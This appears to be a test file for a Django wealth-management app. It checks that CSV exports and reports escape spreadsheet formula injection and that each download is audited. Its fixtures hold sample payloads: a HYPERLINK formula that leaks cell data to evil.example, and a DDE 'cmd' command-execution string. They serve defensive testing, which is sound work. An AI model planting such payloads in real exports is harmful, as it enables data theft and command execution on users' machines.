"""Attack 1: cells that a spreadsheet would run as formulas come back escaped from every export, and
every download is audited."""

import ast
import csv
import io
import re
from pathlib import Path

import pytest
from django_tenants.utils import tenant_context
from hypothesis import given
from hypothesis import strategies as st

from rebalancing.exports import FORMULA_LEADS, cell_text, csv_text
from rebalancing.ledger.reconciliation import reconciliation_csv
from rebalancing.models import Account, Household
from tenants.audit.models import AuditEvent
from tests.frontend.test_ledger_pages import AS_OF, ledger  # noqa: F401

ROOT = Path(__file__).resolve().parents[2]
ACCOUNT = "=SEC-0004"
NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOUSEHOLD = "@SUM(1+1)*cmd|' /C calc'!A0"
EXTERNAL = "+HH-1"


def _plain_number(text: str) -> bool:
    """A second, deliberately simple reading of "a number, not a formula"."""
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and not any(c.isalpha() and c not in "eE" for c in text) and "_" not in text


def _safe(cell: str) -> bool:
    return not cell or cell[0] not in "=+-@\t\r" or _plain_number(cell)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@given(st.text())
def test_no_cell_leaves_the_writer_as_a_formula(value):
    cell = cell_text(value)

    assert _safe(cell)
    assert cell == value or cell == "'" + value  # nothing but a leading quote is ever added
    [[back]] = _cells(csv_text(["x"], [[value]]))[1:]
    assert back == cell


@pytest.mark.parametrize(("value", "written"), [
    ("=SEC-0004", "'=SEC-0004"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-1234.56", "-1234.56"), ("+3", "+3"), ("-.5", "-.5"), ("1e-5", "1e-5"),
    ("-1E+5", "-1E+5"), ("F-000", "F-000"), ("", ""), (None, ""), (-300, "-300"), ("'=x", "'=x"),
])
def test_worked_examples(value, written):
    assert cell_text(value) == written


@pytest.fixture
def poisoned(ledger, firm_a):  # noqa: F811
    """The advisor's account and household renamed as an attacker's import would name them."""
    with tenant_context(firm_a):
        Account.objects.filter(pk=ledger["mine"].pk).update(
            custodian_number=ACCOUNT, name=NAME,
            overrides={"transition": {"enabled": True, "max_net_gain_per_year": 3000}})
        Household.objects.filter(pk=ledger["mine"].household_id).update(name=HOUSEHOLD, external_id=EXTERNAL)
    return ledger


DOWNLOADS = [
    ("/ledger/orders/?download=orders", "orders.orders"),
    ("/ledger/orders/?download=blocks", "orders.blocks"),
    ("/reports/realised/?year=2026&download=lots", "report.realised_lots"),
    ("/reports/realised/?year=2026&download=totals", "report.realised_totals"),
    ("/reports/harvest/?year=2026&download=csv", "report.harvest"),
    (f"/reports/transition/?as_of={AS_OF}&download=csv", "report.transition"),
    ("/api/v1/order-files/", "order_file.orders"),
    ("/api/v1/order-files/?layout=blocks", "order_file.blocks"),
]


@pytest.mark.parametrize(("url", "what"), DOWNLOADS)
def test_every_download_escapes_formulas_and_is_audited(poisoned, as_user, firm_a, people, url, what):
    with tenant_context(firm_a):
        before = AuditEvent.objects.filter(action="export.download").count()

    response = as_user("pm").get(url)

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    cells = [cell for row in _cells(text) for cell in row]
    assert all(_safe(cell) for cell in cells), [c for c in cells if not _safe(c)]
    assert "'" + ACCOUNT in cells  # the account number is there, as text
    assert ACCOUNT not in cells
    with tenant_context(firm_a):
        [event] = AuditEvent.objects.filter(action="export.download").order_by("-id")[:1]
        assert AuditEvent.objects.filter(action="export.download").count() == before + 1
    assert (event.actor, event.object_id, event.after["what"]) == (people["pm"].username, what, what)


def test_reports_keep_negative_numbers_as_numbers(poisoned, as_user):
    rows = _cells(as_user("pm").get("/reports/realised/?year=2026&download=totals").content.decode())
    header, mine = rows[0], next(r for r in rows if r[1] == "'" + ACCOUNT)

    assert mine[header.index("short_term_gain_or_loss")] == "-300"
    assert mine[header.index("name")] == "'" + NAME
    household = next(r for r in rows if r[0] == "household" and r[1] == "'" + EXTERNAL)
    assert household[2] == "'" + HOUSEHOLD


def test_the_transition_report_carries_no_hyperlink_formula(poisoned, as_user):
    text = as_user("pm").get(f"/reports/transition/?as_of={AS_OF}&download=csv").content.decode()

    assert "'" + NAME in [c for row in _cells(text) for c in row]


def test_reconciliation_differences_are_escaped_too(poisoned, firm_a):
    with tenant_context(firm_a):
        text = reconciliation_csv(poisoned["reconciliation"])

    cells = [c for row in _cells(text) for c in row]
    assert "'" + ACCOUNT in cells and all(_safe(c) for c in cells)


def test_the_reports_api_is_audited_as_a_download(poisoned, as_user, firm_a, people):
    for url in ("/api/v1/reports/realised-gains/?start=2026-01-01&end=2026-12-31&account=" + ACCOUNT,
                "/api/v1/reports/harvest/?start=2026-01-01&end=2026-12-31", f"/api/v1/reports/transition/?as_of={AS_OF}"):
        assert as_user("pm").get(url).status_code == 200, url

    with tenant_context(firm_a):
        events = list(AuditEvent.objects.filter(action="export.download").order_by("id"))
    assert [e.object_id for e in events] == ["report.realised_gains", "report.harvest", "report.transition"]
    assert events[0].after["filters"]["account"] == ACCOUNT and events[0].actor == people["pm"].username


# Code that writes CSV for the importer, not for people (the API's JSON rows become the CSV the import
# service reads, which must stay byte for byte what was sent), or builds the package's demo data.
NOT_EXPORTS = {"rebalancing/imports/from_rows.py", "rebalancing/demo/data/build_data.py", "rebalancing/exports.py"}


def test_no_module_writes_csv_but_the_one_writer():
    offenders = []
    for package in ("rebalancing", "frontend", "tenants", "config"):
        for path in (ROOT / package).rglob("*.py"):
            rel = path.relative_to(ROOT).as_posix()
            if rel in NOT_EXPORTS:
                continue
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
                        isinstance(node.value, ast.Name) and node.value.id == "csv":
                    offenders.append(f"{rel}:{node.lineno}")
                if isinstance(node, ast.Call) and any(
                        k.arg == "content_type" and isinstance(k.value, ast.Constant)
                        and re.match(r"text/csv", str(k.value.value)) for k in node.keywords):
                    offenders.append(f"{rel}:{node.lineno} (its own text/csv response)")
    assert offenders == [], "CSV for people goes through rebalancing.exports.csv_text / csv_download"


def test_formula_leads_are_owasps():
    assert set(FORMULA_LEADS) == {"=", "+", "-", "@", "\t", "\r"}


def test_schedule_d_per_household_escapes_the_households_name(poisoned, as_user, firm_a):
    with tenant_context(firm_a):
        before = AuditEvent.objects.filter(action="export.download", object_id="report.schedule_d").count()

    response = as_user("pm").get("/reports/realised/?year=2026&download=schedule-d")

    cells = [c for row in _cells(response.content.decode()) for c in row]
    assert response.status_code == 200 and all(_safe(c) for c in cells)
    assert "'" + HOUSEHOLD in cells or "'" + EXTERNAL in cells
    with tenant_context(firm_a):
        assert AuditEvent.objects.filter(action="export.download", object_id="report.schedule_d").count() == before + 1
